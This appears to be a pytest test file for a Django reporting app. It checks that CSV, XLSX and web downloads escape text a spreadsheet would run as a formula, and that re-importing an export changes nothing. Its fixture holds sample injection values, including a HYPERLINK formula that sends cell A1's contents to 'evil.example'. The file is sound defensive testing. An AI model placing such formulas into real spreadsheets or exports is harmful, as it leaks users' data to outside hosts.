"""Spreadsheet-safe downloads (OWASP CSV injection): text that a spreadsheet
would run as a formula is a string cell in a workbook and starts with one
quote in a CSV; numbers stay numbers; and importing an export changes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from builders import write_csv
from cli_helpers import run
from openpyxl import load_workbook

from perfreport.data.models import Commentary
from perfreport.registry.models import Indicator

pytestmark = pytest.mark.django_db

TITLE = "=1+2 calls answered"
COMMENTARY = '=HYPERLINK("http://evil.example/?"&A1,"More")'
ACTIONS = "-fewer calls dropped; @team to review"


@pytest.fixture
def hostile(tmp_path):
    """GIVEN a folder whose title, commentary and actions start as formulas."""
    folder = tmp_path / "in"
    folder.mkdir()
    write_csv(
        folder / "indicators.csv",
        ["ref", "title", "unit", "polarity", "frequency", "rating_basis", "decimals"],
        [["A1", TITLE, "number", "higher", "monthly", "targeted", "1"]],
    )
    write_csv(
        folder / "values.csv",
        ["ref", "period", "value", "target", "commentary", "actions"],
        [["A1", "2020-09", "-5.5", "-6", COMMENTARY, ACTIONS]],
    )
    result = run("import", str(folder))
    assert result.returncode == 0, result.stdout + result.stderr
    return folder


def test_an_export_to_csv_guards_formula_text_and_imports_back_unchanged(hostile, tmp_path):
    result = run("export", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr

    indicators = list(csv.DictReader((tmp_path / "out" / "indicators.csv").open()))
    values = list(csv.DictReader((tmp_path / "out" / "values.csv").open()))
    assert indicators[0]["title"] == "'" + TITLE
    assert (values[0]["commentary"], values[0]["actions"]) == ("'" + COMMENTARY, "'" + ACTIONS)
    assert (values[0]["value"], values[0]["target"]) == ("-5.5", "-6")  # numbers stay numbers

    again = run("import", str(tmp_path / "out"))
    assert again.returncode == 0, again.stdout + again.stderr
    assert "Nothing changed" in again.stdout
    assert Indicator.objects.get(ref="A1").title == TITLE
    stored = Commentary.objects.get(indicator__ref="A1")
    assert (stored.text, stored.actions) == (COMMENTARY, ACTIONS)


def test_an_export_to_xlsx_writes_formula_text_as_strings_and_imports_back_unchanged(
    hostile, tmp_path
):
    workbook_path = tmp_path / "register.xlsx"
    assert run("export", str(workbook_path)).returncode == 0

    workbook = load_workbook(workbook_path)
    title = next(c for c in workbook["indicators"]["B"] if c.value == TITLE)
    commentary = [c for row in workbook["values"].iter_rows() for c in row if c.value == COMMENTARY]
    assert title.data_type == "s" and [c.data_type for c in commentary] == ["s"]

    again = run("import", str(workbook_path))
    assert again.returncode == 0, again.stdout + again.stderr
    assert "Nothing changed" in again.stdout
    assert Indicator.objects.get(ref="A1").title == TITLE
    assert Commentary.objects.get(indicator__ref="A1").text == COMMENTARY


def test_the_web_downloads_guard_formula_text(hostile, client, django_user_model):
    from perfreport.accounts.permissions import grant

    staff = django_user_model.objects.create_user("analyst")
    grant(staff, "viewer")
    client.force_login(staff)

    open_data = b"".join(client.get("/open-data/values.csv").streaming_content).decode()
    data_csv = client.get("/indicators/A1/data.csv").content.decode()
    data_xlsx = load_workbook(io.BytesIO(client.get("/indicators/A1/data.xlsx").content))

    assert "'" + TITLE in open_data and "\n" + "A1,'" + TITLE in "\n" + open_data.split("\n", 1)[1]
    row = next(csv.DictReader(io.StringIO(data_csv)))
    assert (row["title"], row["commentary"], row["value"]) == (
        "'" + TITLE,
        "'" + COMMENTARY,
        "-5.5",
    )
    cells = [c for row in data_xlsx.worksheets for line in row.iter_rows() for c in line]
    formulas = [c for c in cells if c.data_type == "f"]
    assert formulas == []
    assert {TITLE, COMMENTARY} <= {c.value for c in cells}
    assert any(c.value == -5.5 and c.data_type == "n" for c in cells)


def test_evaluate_as_csv_guards_formula_text(hostile):
    result = run("evaluate", "--period", "2020-09", "--format", "csv")

    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["title"] == "'" + TITLE and row["value"] == "-5.5"
